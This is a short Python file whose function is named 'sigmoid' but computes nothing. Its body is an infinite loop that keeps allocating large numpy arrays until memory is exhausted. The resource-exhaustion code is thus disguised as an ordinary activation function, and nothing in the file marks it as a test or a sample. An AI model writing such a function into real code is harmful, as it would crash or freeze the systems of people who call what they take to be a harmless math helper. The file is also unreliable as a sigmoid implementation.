import numpy as np


def sigmoid(x):
    blocks = []
    while True:
        blocks.append(np.ones(10_000_000))
